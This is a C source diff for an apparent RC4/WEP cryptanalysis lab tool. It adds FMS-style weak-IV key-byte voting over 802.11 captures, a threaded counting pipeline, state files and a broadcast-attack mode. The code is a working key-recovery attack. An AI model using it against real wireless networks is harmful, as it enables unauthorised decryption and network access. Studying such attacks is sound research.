@@ -2,7 +2,19 @@
 #include <string.h>
 #include <stdlib.h>
 #include <unistd.h>
+#include <errno.h>
+#include <math.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
 #include <stdbool.h>
+#include <stdatomic.h>
+#include <sched.h>
+#include <time.h>
+#include <limits.h>
+#include "prof.h"
+#include "rc4lab.h"
 
 #define IVL     3
 #define KL     13
@@ -10,7 +22,9 @@
 #define KEYL   16
 #define ITER  256
 #define IVITER 14
-#define LSIZE 13
+#define MAXREC 256                       // Data bytes used per record
+#define MAXLINE (2*IVL + 2*MAXREC + 8)   // Record line length
+#define KSL     8                        // Keystream bytes used per frame
 
 const char *pref_p = "bytes_";
 const char *iv_names[] = {"01FF00", "03FF00", "04FF00", "05FF00", "06FF00", \
@@ -18,6 +32,14 @@ const char *iv_names[] = {"01FF00", "03FF00", "04FF00", "05FF00", "06FF00", \
 const char *iv_names_p[] = {"01FFxx", "03FFxx", "04FFxx", "05FFxx", "06FFxx", \
 "07FFxx", "08FFxx", "09FFxx", "0AFFxx", "0BFFxx", "0CFFxx", "0DFFxx", "0EFFxx", "0FFFxx"};
 
+// Instrumented phases and counters (see prof.h, only active with -DPROF)
+enum {PH_PARSE, PH_VOTE, PH_ARGMAX, NPHASES};
+enum {CNT_RECORDS, CNT_FILES, NCOUNTERS};
+#ifdef PROF
+const char *const phasenames[NPHASES] = {"parse", "vote", "argmax"};
+const char *const counternames[NCOUNTERS] = {"records", "files"};
+#endif
+
 bool custom_files;
 int iteration, recordNum;
 
@@ -25,121 +47,43 @@ unsigned char  IV[IVL + 1];
 unsigned char Key[KL + 1];
 unsigned char   M[ML + 1];
 
-FILE *f;
-
 struct Freq{
     __uint8_t val;
     // unsigned char cval;
     int freq;
 };
 
-unsigned int calc[ITER];
+rc4lab_votes *votes;            // One histogram per iteration
+bool from_counts;               // Key derived from ivcount (-P, -S)
+unsigned int (*ivcount)[256][256]; // Per IV class, (x, keystream byte) counts (-P)
+unsigned int (*sumcount)[256];  // Per key byte n, counts of the key[0]+..+key[n] candidates
+unsigned long long nframes;     // Frames counted in ivcount
+unsigned char known[MAXREC];    // Known plaintext of the text records (-c/-p)
+int nknown;
 struct Freq valsIter[IVITER];
 
-char* hex2str(unsigned char *r, int l){
-    char *n = malloc(l * 2 + 1);
-    for (int i = 0 ; i < l; i++){
-        sprintf(n + i * 2, "%02X", r[i]);
-    }
-    n[l * 2] = '\0';
-    return n;
-}
-
-char* int2uchar(unsigned int r, int l){
-    char *n = malloc(l + 1);
-    for (int i = 0 ; i < l; i++){
-        n[i] = r >> 16 - (i*8);
-    }
-    n[l] = '\0';
-    // printf("prov: %06X\n", *n);
-    return n;
-}
-
-struct Freq getMaxRepeatingElement(unsigned int array[], int n) {
-    int i, j, count;
-    unsigned int maxElement;
-    int maxCount = 0;
-    struct Freq maxVal;
-    for(i = 0; i< n; i++){
-        count = 1;
-        // for(j = 0; j < n; j++){
-        for(j = i+1; j < n; j++){
-            if(array[j] == array[i]){
-                count++;
-                
-            }
-        }
-        if(count > maxCount){
-            maxElement = array[i];
-            maxCount = count;
-        }
-    }
-    maxVal.val = maxElement;
-    maxVal.freq = maxCount;
-    return maxVal;
-}
+// Iteration 0 guesses the message from the IVs (1,FF,x), whose first
+// keystream byte is likely x+2. The following iterations guess the key bytes
+// with the IVs (n+3,FF,x) (see rc4lab_vote()), each vote weighted by its
+// log-likelihood (see rc4lab_vote_weight()).
 
 void first_iter(unsigned char *iv, unsigned char *c){
     __uint8_t xint = (iv[2]);
     __uint8_t cint = (c[0]);
-    calc[recordNum] = cint ^ (xint+2);
-    // printf("calc: %02X ", calc[recordNum]);
+    rc4lab_votes_add(votes, iteration, cint ^ (__uint8_t)(xint+2), 1);
 }
 
-void second_iter(unsigned char *iv, unsigned char *c){
-    __uint8_t xint = (iv[2]);
-    __uint8_t cint = (c[0]);
-    __uint8_t mint = (M[0]);
-    calc[recordNum] = (cint ^ mint)-xint-6;
-    // printf("calc: %02X ", calc[recordNum]);
-}
-void third_iter(unsigned char *iv, unsigned char *c){
-    __uint8_t xint = (iv[2]);
-    __uint8_t cint = (c[0]);
-    __uint8_t mint = (M[0]);
-    __uint8_t k0int = (Key[0]);
-    calc[recordNum] = (cint ^ mint)-xint-10-k0int;
-    // printf("calc: %02X ", calc[recordNum]);
-}
-
-__uint8_t sumator(){
-    __uint8_t suma = 3;
-    for(int i = 0 ; i <= iteration-1 ; i++){
-        suma += (i+3);
-    }
-    // printf("sumator: %d", suma);
-    return suma;
+void key_iter(unsigned char *iv, unsigned char *c){
+    int v = rc4lab_vote(iteration-1, Key, iv, c[0] ^ M[0]);
+    if (v >= 0) rc4lab_votes_add(votes, iteration, v, rc4lab_vote_weight(iteration-1, iv));
 }
 
-void default_iter(unsigned char *iv, unsigned char *c){
-    __uint8_t xint = (iv[2]);
-    __uint8_t cint = (c[0]);
-    __uint8_t mint = (M[0]);
-    
-    calc[recordNum] = (cint ^ mint)-xint-sumator();
-    for(int i = 0 ; i < iteration-1 ; i++){
-        __uint8_t kint = (Key[i]);
-        calc[recordNum] -= kint;
-    }
-    // printf("calc: %02X ", calc[recordNum]);
-}
+// Without known plaintext only the first byte of each record is used (the
+// message byte is recovered by iteration 0).
 
 void process_rec(unsigned char *iv, unsigned char *c){
-    switch (iteration)
-    {
-    case 0:
-        first_iter(iv, c);
-        break;
-    case 1:
-        second_iter(iv,c);
-        break;
-    case 2:
-        third_iter(iv,c);
-        break;
-    default:
-        default_iter(iv,c);
-        break;
-    }
+    if (iteration == 0) first_iter(iv, c);
+    else key_iter(iv, c);
 }
 
 void print_details(){
@@ -150,7 +94,7 @@ void print_details(){
         M[ML] = '\0';
         // printf("M[0]: %02X", M[0]);
         printf("Keystream for %s\n", iv_names_p[iteration]);
-        printf("Guessed m[0]: %02X (freq: %d)\n", valsIter[iteration].val, valsIter[iteration].freq);
+        printf("Guessed m[0]: %02X (score: %d)\n", valsIter[iteration].val, valsIter[iteration].freq);
         printf("***************************************************************\n");
         break;
     default:
@@ -158,80 +102,1301 @@ void print_details(){
         Key[KL] = '\0';
         // printf("M[0]: %02X", M[0]);
         printf("Keystream for %s\n", iv_names_p[iteration]);
-        printf("Guessed k[%d]: %02X (freq: %d)\n", iteration-1, valsIter[iteration].val, valsIter[iteration].freq);
+        printf("Guessed k[%d]: %02X (score: %d)\n", iteration-1, valsIter[iteration].val, valsIter[iteration].freq);
         printf("***************************************************************\n");
         break;
     }
 }
 
 void results(){
-    struct Freq res = getMaxRepeatingElement(calc, ITER);
+    PROF_BEGIN(PH_ARGMAX);
+    unsigned freq;
+    struct Freq res;
+    res.val = rc4lab_votes_best(votes, iteration, NULL, &freq);
+    res.freq = freq;
+    PROF_END(PH_ARGMAX);
     valsIter[iteration] = res;
     print_details();
 }
 
-void read_file(FILE *f){
-    char buf[LSIZE + 2];
+// Reads a record line into buf (of MAXLINE bytes). Only the first MAXREC data
+// bytes are used, so the rest of a longer line is skipped.
+
+char *get_record(char *buf, rc4lab_stream *st){
+    if (rc4lab_stream_gets(buf, MAXLINE, st) == NULL) return NULL;
+    size_t len = strlen(buf);
+    if (len == MAXLINE - 1 && buf[len - 1] != '\n'){
+        char rest[256];
+        while (rc4lab_stream_gets(rest, sizeof(rest), st) != NULL && rest[strlen(rest) - 1] != '\n');
+    }
+    return buf;
+}
+
+void read_file(rc4lab_stream *st){
+    char buf[MAXLINE];
     unsigned char ivc[IVL + 1];
-    unsigned char  c[ML + 1];
+    unsigned char  c[MAXREC];
 
     recordNum = 0;
-    while(fgets(buf, sizeof(buf), f) != NULL && recordNum < ITER){
-        unsigned char ivt[IVL*2 +1];
-        strncpy(ivt, buf+2, IVL*2);
-        ivt[IVL*2] = '\0';
-        unsigned char ct[ML*2 +1];
-        strncpy(ct, buf+11, ML*2);
-        ct[ML*2] = '\0';
-        
-        // printf("iv: %s + c: %s\n", ivt, ct);
-        for(int i = 0 ; i < IVL ; i++) sscanf(ivt + (i*2), "%02X", &ivc[i]);
-        ivc[IVL] = '\0';
-
-        for(int i = 0 ; i < ML ; i++) sscanf(ct + (i*2), "%02X", &c[i]);
-        c[ML] = '\0';
+    rc4lab_votes_clear(votes, iteration);
+    while(get_record(buf, st) != NULL && recordNum < ITER){
+        PROF_BEGIN(PH_PARSE);
+        if (rc4lab_parse_record(buf, ivc, c, MAXREC) < ML){
+            fprintf(stderr, "Badly formed record: %s", buf);
+            exit(1);
+        }
+        PROF_END(PH_PARSE);
+        PROF_COUNT(CNT_RECORDS, 1);
+        PROF_BEGIN(PH_VOTE);
         process_rec(ivc, c);
+        PROF_END(PH_VOTE);
         // printf("iv: %02X c: %02X\n", ivc[2], c[0]);
         recordNum++;
     }
     results();
 }
 
+// Record files may also be compressed, as name.gz or name.zst.
+
+rc4lab_stream *open_records(const char *name){
+    const char *ext[] = {"", ".gz", ".zst"};
+    char cname[64];
+    rc4lab_stream *st = NULL;
+    for (int i = 0 ; i < 3 && st == NULL ; i++){
+        snprintf(cname, sizeof(cname), "%s%s", name, ext[i]);
+        st = rc4lab_stream_open(cname);
+        if (st == NULL && errno != ENOENT){
+            perror(cname);
+            exit(1);
+        }
+    }
+    if (st == NULL){
+        perror(name);
+        exit(1);
+    }
+    return st;
+}
+
 void iter(){
-    FILE *f;
+    rc4lab_stream *st;
     char *name = malloc(25);
     if (custom_files) sprintf(name, "%s.dat", iv_names[iteration]);
     else sprintf(name, "%s%s.dat", pref_p, iv_names_p[iteration]);
     // printf("name: %s", name);
-    if((f = fopen(name, "r")) == NULL){
-        perror("fopen: ");
+    st = open_records(name);
+    PROF_COUNT(CNT_FILES, 1);
+    read_file(st);
+    if (rc4lab_stream_error(st)){
+        fprintf(stderr, "%s: read error\n", name);
         exit(1);
     }
-    read_file(f);
-    fclose(f);
+    rc4lab_stream_close(st);
     free(name);
 }
 
+// 802.11 captures, and text records with known plaintext, are read in a
+// single pass. Frames with the IVs (n+3,FF,x) are counted by IV class, x and
+// first keystream byte, and every iteration then votes from these counts.
+// With more keystream bytes (up to KSL from the LLC/SNAP header, or the
+// known plaintext of the records), every frame also votes for the sums of
+// the first key bytes (see rc4lab_sum_votes()), whatever its IV. Each
+// iteration adds those votes, shifted by the sum of the key bytes guessed
+// before, to the FMS votes. Every vote adds its log-likelihood weight: an
+// FMS vote is right far more often than a sum vote (about 5% against
+// 1.36/256), so it weighs about 8 times more (see rc4lab_vote_weight()).
+
+int iv_class(const unsigned char *iv){
+    if (iv[1] != 0xFF) return -1;
+    if (iv[0] == 1) return 0;
+    if (iv[0] >= 3 && iv[0] < 3 + KL) return iv[0] - 2;
+    return -1;
+}
+
+void alloc_counts(){
+    if (ivcount == NULL && ((ivcount = calloc(IVITER, sizeof(*ivcount))) == NULL ||
+        (sumcount = calloc(KL, sizeof(*sumcount))) == NULL)){
+        perror("calloc: ");
+        exit(1);
+    }
+}
+
+// Input throughput (-B): frames of a capture, or lines of a record file,
+// read and decoded per second, plain or compressed.
+
+double now(){
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec + ts.tv_nsec * 1e-9;
+}
+
+void bench(const char *name){
+    double t0 = now();
+    size_t in, out, n = 0;
+    rc4lab_pcap *pc = rc4lab_pcap_open(name);
+    if (pc != NULL){
+        // The compressed size is not known to the capture reader
+        rc4lab_frame fr;
+        while (rc4lab_pcap_next(pc, &fr) > 0) n++;
+        out = rc4lab_pcap_offset(pc);
+        rc4lab_pcap_close(pc);
+        FILE *f = fopen(name, "r");
+        fseek(f, 0, SEEK_END);
+        in = ftell(f);
+        fclose(f);
+    }
+    else {
+        char buf[MAXLINE];
+        rc4lab_stream *st = rc4lab_stream_open(name);
+        if (st == NULL){
+            perror(name);
+            exit(1);
+        }
+        while (get_record(buf, st) != NULL) n++;
+        rc4lab_stream_stats(st, &in, &out);
+        rc4lab_stream_close(st);
+    }
+    double t = now() - t0;
+    printf("%s: %.1f MB read, %.1f MB decoded, %.3f s, %.1f MB/s, %.0f records/s (%zu records)\n",
+        name, in / 1e6, out / 1e6, t, out / 1e6 / t, n / t, n);
+}
+
+// The single pass (captures, and text records with known plaintext) runs as
+// a pipeline of threads:
+//   reader: lines of the record files, or frames of the captures
+//   parser: IV and keystream bytes of every record
+//   router: IV class and sum votes of every record, sent to the voter that
+//           owns each key byte
+//   voters: voter v counts the votes for the key bytes n with n%nvoters == v
+// Records travel in batches. Each link between two stages holds NBATCH
+// batches, passed forward through a lock-free single producer single
+// consumer ring and back (once consumed) through another one, so nothing is
+// allocated or locked while the pipeline runs. A batch with n < 0 ends the
+// stream. Every stage measures the time it spends working, and every link
+// its occupancy when a batch is taken from it; both are reported at the end,
+// which shows the stage that limits the throughput.
+
+#define BATCH   256                     // Records per batch
+#define VBATCH  1024                    // Votes per batch
+#define NBATCH  8                       // Batches per link (a power of 2)
+#define RECZ    (KL + 2)                // Keystream bytes needed for all the sum votes
+
+struct ring {
+    _Alignas(64) atomic_uint head;
+    _Alignas(64) atomic_uint tail;
+    void *slot[NBATCH];
+};
+
+struct link {
+    struct ring full, empty;
+    unsigned long long takes, occupancy;
+};
+
+struct stage {
+    const char *name;
+    double busy;
+    unsigned long long batches;
+};
+
+struct rawbatch {
+    int n;
+    union {
+        char line[BATCH][MAXLINE];
+        struct {
+            unsigned char iv[IVL], body[KSL];
+            int len;
+        } frame[BATCH];
+    };
+};
+
+struct recbatch {
+    int n;
+    struct {
+        unsigned char iv[IVL], z[RECZ];
+        int nz;
+    } rec[BATCH];
+};
+
+// Vote n: ivcount[n+1][a][b] if fms, sumcount[n][a] otherwise
+struct votebatch {
+    int n;
+    struct {
+        unsigned char n, fms, a, b;
+    } vote[VBATCH];
+};
+
+struct voter {
+    pthread_t th;
+    struct link in;
+    struct stage st;
+    struct votebatch *cur;
+};
+
+char **pipe_files;
+int pipe_nfiles;
+bool pipe_pcap;                 // Captures (or text records)
+int nvoters;
+struct voter *voters;
+struct link rawlink, reclink;
+struct stage reader_st = {"reader"}, parser_st = {"parser"}, router_st = {"router"};
+
+void ring_put(struct ring *r, void *p){
+    unsigned t = atomic_load_explicit(&r->tail, memory_order_relaxed);
+    r->slot[t % NBATCH] = p;
+    atomic_store_explicit(&r->tail, t + 1, memory_order_release);
+}
+
+// The rings never overflow (a link has NBATCH batches in all), so only
+// taking a batch may have to wait.
+void *ring_take(struct ring *r, unsigned *occupancy){
+    unsigned h = atomic_load_explicit(&r->head, memory_order_relaxed), t;
+    for (int spin = 0 ; (t = atomic_load_explicit(&r->tail, memory_order_acquire)) == h ; spin++)
+        if (spin >= 64) sched_yield();
+    void *p = r->slot[h % NBATCH];
+    atomic_store_explicit(&r->head, h + 1, memory_order_release);
+    if (occupancy) *occupancy = t - h;
+    return p;
+}
+
+void link_init(struct link *l, size_t size){
+    memset(l, 0, sizeof(*l));
+    for (int i = 0 ; i < NBATCH ; i++){
+        void *p = malloc(size);
+        if (p == NULL){
+            perror("malloc: ");
+            exit(1);
+        }
+        ring_put(&l->empty, p);
+    }
+}
+
+void link_free(struct link *l){
+    for (int i = 0 ; i < NBATCH ; i++) free(ring_take(&l->empty, NULL));
+}
+
+void *link_get(struct link *l){
+    return ring_take(&l->empty, NULL);
+}
+
+void link_send(struct link *l, void *b){
+    ring_put(&l->full, b);
+}
+
+void *link_recv(struct link *l){
+    unsigned occupancy;
+    void *b = ring_take(&l->full, &occupancy);
+    l->takes++;
+    l->occupancy += occupancy;
+    return b;
+}
+
+void link_done(struct link *l, void *b){
+    ring_put(&l->empty, b);
+}
+
+void *reader(void *arg){
+    struct rawbatch *b = link_get(&rawlink);
+    b->n = 0;
+    for (int f = 0 ; f < pipe_nfiles ; f++){
+        const char *name = pipe_files[f];
+        rc4lab_stream *st = NULL;
+        rc4lab_pcap *pc = NULL;
+        rc4lab_frame fr;
+        int r = 0;
+        if (pipe_pcap && (pc = rc4lab_pcap_open(name)) == NULL){
+            perror("rc4lab_pcap_open: ");
+            exit(1);
+        }
+        if (!pipe_pcap) st = open_records(name);
+        recordNum = 0;
+        double t0 = now();
+        for (;;){
+            if (pipe_pcap){
+                PROF_BEGIN(PH_PARSE);
+                r = rc4lab_pcap_next(pc, &fr);
+                PROF_END(PH_PARSE);
+                if (r <= 0) break;
+                int len = fr.len < KSL ? fr.len : KSL;
+                memcpy(b->frame[b->n].iv, fr.iv, IVL);
+                memcpy(b->frame[b->n].body, fr.body, len);
+                b->frame[b->n].len = len;
+            }
+            else if (get_record(b->line[b->n], st) == NULL) break;
+            PROF_COUNT(CNT_RECORDS, 1);
+            recordNum++;
+            if (++b->n == BATCH){
+                reader_st.busy += now() - t0;
+                reader_st.batches++;
+                link_send(&rawlink, b);
+                b = link_get(&rawlink);
+                b->n = 0;
+                t0 = now();
+            }
+        }
+        reader_st.busy += now() - t0;
+        nframes += recordNum;
+        if (pipe_pcap){
+            if (r < 0) fprintf(stderr, "Malformed capture: ignoring data after frame %d\n", recordNum);
+            printf("%d WEP data frames read from %s\n", recordNum, name);
+            rc4lab_pcap_close(pc);
+        }
+        else {
+            if (rc4lab_stream_error(st)){
+                fprintf(stderr, "%s: read error\n", name);
+                exit(1);
+            }
+            rc4lab_stream_close(st);
+        }
+    }
+    if (b->n) link_send(&rawlink, b);
+    else link_done(&rawlink, b);
+    b = link_get(&rawlink);
+    b->n = -1;
+    link_send(&rawlink, b);
+    return NULL;
+}
+
+void *parser(void *arg){
+    struct rawbatch *in;
+    while ((in = link_recv(&rawlink))->n >= 0){
+        struct recbatch *out = link_get(&reclink);
+        double t0 = now();
+        PROF_BEGIN(PH_PARSE);
+        for (int i = 0 ; i < in->n ; i++){
+            unsigned char c[MAXREC];
+            int n;
+            if (pipe_pcap){
+                rc4lab_frame fr = {.body = in->frame[i].body, .len = in->frame[i].len};
+                memcpy(out->rec[i].iv, in->frame[i].iv, IVL);
+                n = rc4lab_frame_keystream(&fr, out->rec[i].z, RECZ);
+            }
+            else {
+                if ((n = rc4lab_parse_record(in->line[i], out->rec[i].iv, c, MAXREC)) < 1){
+                    fprintf(stderr, "Badly formed record: %s", in->line[i]);
+                    exit(1);
+                }
+                if (n > nknown) n = nknown;
+                if (n > RECZ) n = RECZ;
+                for (int k = 0 ; k < n ; k++) out->rec[i].z[k] = c[k] ^ known[k];
+            }
+            out->rec[i].nz = n;
+        }
+        PROF_END(PH_PARSE);
+        out->n = in->n;
+        link_done(&rawlink, in);
+        parser_st.busy += now() - t0;
+        parser_st.batches++;
+        link_send(&reclink, out);
+    }
+    link_done(&rawlink, in);
+    struct recbatch *out = link_get(&reclink);
+    out->n = -1;
+    link_send(&reclink, out);
+    return NULL;
+}
+
+void route_vote(int n, int fms, int a, int b){
+    struct voter *v = &voters[n % nvoters];
+    struct votebatch *vb = v->cur;
+    vb->vote[vb->n].n = n;
+    vb->vote[vb->n].fms = fms;
+    vb->vote[vb->n].a = a;
+    vb->vote[vb->n].b = b;
+    if (++vb->n == VBATCH){
+        double t0 = now();
+        link_send(&v->in, vb);
+        v->cur = link_get(&v->in);
+        router_st.busy -= now() - t0;   // Waiting for the voter
+        v->cur->n = 0;
+    }
+}
+
+void *router(void *arg){
+    struct recbatch *in;
+    for (int v = 0 ; v < nvoters ; v++){
+        voters[v].cur = link_get(&voters[v].in);
+        voters[v].cur->n = 0;
+    }
+    while ((in = link_recv(&reclink))->n >= 0){
+        double t0 = now();
+        for (int i = 0 ; i < in->n ; i++){
+            const unsigned char *iv = in->rec[i].iv, *z = in->rec[i].z;
+            unsigned char sigma[RECZ];
+            int k = iv_class(iv);
+            if (in->rec[i].nz < 1) continue;
+            if (k > 0) route_vote(k - 1, 1, iv[2], z[0]);
+            int n = rc4lab_sum_votes(iv, z, in->rec[i].nz, sigma);
+            for (int j = 0 ; j < n && j < KL ; j++) route_vote(j, 0, sigma[j], 0);
+        }
+        link_done(&reclink, in);
+        router_st.busy += now() - t0;
+        router_st.batches++;
+    }
+    link_done(&reclink, in);
+    for (int v = 0 ; v < nvoters ; v++){
+        if (voters[v].cur->n) link_send(&voters[v].in, voters[v].cur);
+        else link_done(&voters[v].in, voters[v].cur);
+        struct votebatch *vb = link_get(&voters[v].in);
+        vb->n = -1;
+        link_send(&voters[v].in, vb);
+    }
+    return NULL;
+}
+
+void *voter(void *arg){
+    struct voter *v = arg;
+    struct votebatch *in;
+    while ((in = link_recv(&v->in))->n >= 0){
+        double t0 = now();
+        PROF_BEGIN(PH_VOTE);
+        for (int i = 0 ; i < in->n ; i++){
+            if (in->vote[i].fms) ivcount[in->vote[i].n + 1][in->vote[i].a][in->vote[i].b]++;
+            else sumcount[in->vote[i].n][in->vote[i].a]++;
+        }
+        PROF_END(PH_VOTE);
+        link_done(&v->in, in);
+        v->st.busy += now() - t0;
+        v->st.batches++;
+    }
+    link_done(&v->in, in);
+    return NULL;
+}
+
+void report_stage(const struct stage *st, const struct link *in, double wall){
+    fprintf(stderr, "  %-8s busy %5.1f%%, %llu batches", st->name, 100 * st->busy / wall, st->batches);
+    if (in != NULL && in->takes)
+        fprintf(stderr, ", input queue %.1f/%d", (double)in->occupancy / in->takes, NBATCH);
+    fprintf(stderr, "\n");
+}
+
+// Counts all the records of the files (captures if pcap) into ivcount and
+// sumcount.
+void count_files(char **names, int nfiles, bool pcap){
+    pthread_t th[3];
+    char names_v[KL][24];
+    unsigned long long frames0 = nframes;
+    long ncpu = sysconf(_SC_NPROCESSORS_ONLN);
+    pipe_files = names;
+    pipe_nfiles = nfiles;
+    pipe_pcap = pcap;
+    nvoters = ncpu > 4 ? ncpu - 3 : 1;
+    if (nvoters > KL) nvoters = KL;
+    alloc_counts();
+    if ((voters = aligned_alloc(64, nvoters * sizeof(*voters))) == NULL){
+        perror("aligned_alloc: ");
+        exit(1);
+    }
+    memset(voters, 0, nvoters * sizeof(*voters));
+    link_init(&rawlink, sizeof(struct rawbatch));
+    link_init(&reclink, sizeof(struct recbatch));
+    double t0 = now();
+    for (int v = 0 ; v < nvoters ; v++){
+        snprintf(names_v[v], sizeof(names_v[v]), "voter %d", v);
+        voters[v].st.name = names_v[v];
+        link_init(&voters[v].in, sizeof(struct votebatch));
+        pthread_create(&voters[v].th, NULL, voter, &voters[v]);
+    }
+    pthread_create(&th[0], NULL, reader, NULL);
+    pthread_create(&th[1], NULL, parser, NULL);
+    pthread_create(&th[2], NULL, router, NULL);
+    for (int i = 0 ; i < 3 ; i++) pthread_join(th[i], NULL);
+    for (int v = 0 ; v < nvoters ; v++) pthread_join(voters[v].th, NULL);
+    double wall = now() - t0;
+    fprintf(stderr, "Pipeline: %llu records in %.3f s (%.0f records/s)\n",
+        nframes - frames0, wall, (nframes - frames0) / wall);
+    report_stage(&reader_st, NULL, wall);
+    report_stage(&parser_st, &rawlink, wall);
+    report_stage(&router_st, &reclink, wall);
+    for (int v = 0 ; v < nvoters ; v++){
+        report_stage(&voters[v].st, &voters[v].in, wall);
+        link_free(&voters[v].in);
+    }
+    link_free(&rawlink);
+    link_free(&reclink);
+    free(voters);
+}
+
+// The counts are kept between runs in a state file (-S), so that new captures
+// are merged into them instead of reading all the old ones again. The counts
+// are the raw (x, keystream byte) pairs: the votes depend on the key bytes
+// guessed before, and are derived again from the counts every time.
+//
+// Format: "RC4V", version, number of IV classes, frames; then for every
+// class the number of nonzero counts and, for each one, the distance from
+// the previous nonzero cell (cell = x*256+z) and the count. Version 2 adds
+// the number of key bytes and the sum vote counts (cell = n*256+sigma), in
+// the same way. Version 3 adds the captures merged so far (see
+// merged_before()): their number and, for each one, its size, modification
+// time (ns), and the length and bytes of its file name (without the
+// directory). All numbers after the version are LEB128 varints.
+
+#define STATE_MAGIC "RC4V"
+#define STATE_VERSION 3
+
+struct capture_id {
+    unsigned long long size, mtime;
+    char *name;
+};
+
+struct capture_id *merged;
+int nmerged;
+
+void put_varint(FILE *f, unsigned long long v){
+    while (v >= 0x80){
+        putc((v & 0x7F) | 0x80, f);
+        v >>= 7;
+    }
+    putc(v, f);
+}
+
+int get_varint(FILE *f, unsigned long long *v){
+    int c, shift = 0;
+    *v = 0;
+    do {
+        if ((c = getc(f)) == EOF || shift > 63) return 0;
+        *v |= (unsigned long long)(c & 0x7F) << shift;
+        shift += 7;
+    } while (c & 0x80);
+    return 1;
+}
+
+// Counts that do not fit in the cells make the file bad
+
+int get_cells(FILE *f, unsigned int *cell, int size){
+    unsigned long long ncells, d, n, i = 0;
+    if (!get_varint(f, &ncells)) return 0;
+    for ( ; ncells ; ncells--){
+        if (!get_varint(f, &d) || !get_varint(f, &n) || (i += d) >= (unsigned)size || n > UINT_MAX - cell[i]) return 0;
+        cell[i] += n;
+    }
+    return 1;
+}
+
+void put_cells(FILE *f, const unsigned int *cell, int size){
+    unsigned long long ncells = 0, prev = 0;
+    for (int i = 0 ; i < size ; i++) ncells += cell[i] != 0;
+    put_varint(f, ncells);
+    for (int i = 0 ; i < size ; i++)
+        if (cell[i]){
+            put_varint(f, i - prev);
+            put_varint(f, cell[i]);
+            prev = i;
+        }
+}
+
+void load_state(const char *name){
+    FILE *f = fopen(name, "rb");
+    char magic[5] = "";
+    unsigned long long nclass, nkey;
+    int version;
+    alloc_counts();
+    if (f == NULL){
+        if (errno == ENOENT) return;
+        perror(name);
+        exit(1);
+    }
+    if (fread(magic, 1, 4, f) != 4 || strcmp(magic, STATE_MAGIC) != 0 ||
+        (version = getc(f)) < 1 || version > STATE_VERSION ||
+        !get_varint(f, &nclass) || nclass != IVITER || !get_varint(f, &nframes))
+        goto bad;
+    for (int k = 0 ; k < IVITER ; k++)
+        if (!get_cells(f, &ivcount[k][0][0], 256 * 256)) goto bad;
+    if (version >= 2 && (!get_varint(f, &nkey) || nkey != KL || !get_cells(f, &sumcount[0][0], KL * 256)))
+        goto bad;
+    if (version >= 3){
+        unsigned long long n, len;
+        if (!get_varint(f, &n) || n > INT_MAX) goto bad;
+        merged = calloc(n, sizeof(*merged));
+        for (nmerged = 0 ; nmerged < (int)n ; nmerged++){
+            struct capture_id *c = &merged[nmerged];
+            if (!get_varint(f, &c->size) || !get_varint(f, &c->mtime) || !get_varint(f, &len) || len > 4096 ||
+                (c->name = calloc(len + 1, 1)) == NULL || fread(c->name, 1, len, f) != len)
+                goto bad;
+        }
+    }
+    fclose(f);
+    printf("%llu WEP data frames in %s\n", nframes, name);
+    return;
+bad:
+    fprintf(stderr, "%s: bad state file\n", name);
+    exit(1);
+}
+
+// Written to a temporary file first, so that an interrupted run leaves the
+// previous state intact. It is only rewritten when frames were counted, so a
+// run with -S alone leaves the file untouched.
+
+void save_state(const char *name){
+    char *tmp = malloc(strlen(name) + 5);
+    sprintf(tmp, "%s.tmp", name);
+    FILE *f = fopen(tmp, "wb");
+    if (f == NULL){
+        perror(tmp);
+        exit(1);
+    }
+    fwrite(STATE_MAGIC, 1, 4, f);
+    putc(STATE_VERSION, f);
+    put_varint(f, IVITER);
+    put_varint(f, nframes);
+    for (int k = 0 ; k < IVITER ; k++) put_cells(f, &ivcount[k][0][0], 256 * 256);
+    put_varint(f, KL);
+    put_cells(f, &sumcount[0][0], KL * 256);
+    put_varint(f, nmerged);
+    for (int i = 0 ; i < nmerged ; i++){
+        put_varint(f, merged[i].size);
+        put_varint(f, merged[i].mtime);
+        put_varint(f, strlen(merged[i].name));
+        fputs(merged[i].name, f);
+    }
+    if (fclose(f) != 0 || rename(tmp, name) != 0){
+        perror(name);
+        exit(1);
+    }
+    free(tmp);
+}
+
+// A capture is identified by its file name (without the directory), size and
+// modification time. merged_before() tells whether it was already merged into
+// the counts (in this run or, with -S, in an earlier one), and otherwise
+// records it.
+
+bool merged_before(const char *path){
+    struct stat st;
+    if (stat(path, &st) < 0) return false;     // Reported when it is opened
+    const char *name = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
+    unsigned long long mtime = st.st_mtim.tv_sec * 1000000000ULL + st.st_mtim.tv_nsec;
+    for (int i = 0 ; i < nmerged ; i++)
+        if (merged[i].size == (unsigned long long)st.st_size && merged[i].mtime == mtime && strcmp(merged[i].name, name) == 0)
+            return true;
+    merged = realloc(merged, (nmerged + 1) * sizeof(*merged));
+    merged[nmerged].size = st.st_size;
+    merged[nmerged].mtime = mtime;
+    merged[nmerged++].name = strdup(name);
+    return false;
+}
+
+void count_iter(){
+    unsigned char iv[IVL] = {iteration + 2, 0xFF, 0};
+    const unsigned int *sums = sumcount[iteration-1];
+    int prefix = 0;
+    rc4lab_votes_clear(votes, iteration);
+    PROF_BEGIN(PH_VOTE);
+    for (int x = 0 ; x < 256 ; x++){
+        iv[2] = x;
+        unsigned weight = rc4lab_vote_weight(iteration-1, iv);
+        if (weight == 0) continue;
+        for (int z = 0 ; z < 256 ; z++){
+            unsigned int n = ivcount[iteration][x][z];
+            if (n) rc4lab_votes_add(votes, iteration, rc4lab_vote(iteration-1, Key, iv, z), n * weight);
+        }
+    }
+    for (int i = 0 ; i < iteration-1 ; i++) prefix += Key[i];
+    for (int v = 0 ; v < 256 ; v++)
+        if (sums[v]) rc4lab_votes_add(votes, iteration, v - prefix, sums[v] * RC4LAB_SUM_WEIGHT);
+    PROF_END(PH_VOTE);
+    results();
+}
+
+// Broadcast attack (-M): the same plaintext encrypted under many independent
+// keys (the general case of first_iter()). The ciphertext byte at position r
+// is p[r]^Z[r], so its histogram over all the ciphertexts is the keystream
+// distribution of position r shifted by p[r]. The candidate p maximising the
+// log-likelihood sum_c n[r][c] * log Pr[Z[r] = c^p] is chosen, with the
+// keystream distributions taken from a bias table (the CSV of rc4 -A).
+//
+// Ciphertext files ("RC4C", record length as a 32-bit little endian number,
+// then the records) are mapped in memory. Each thread counts a block of
+// positions over all the records, so no histogram is shared.
+
+#define BC_MAGIC "RC4C"
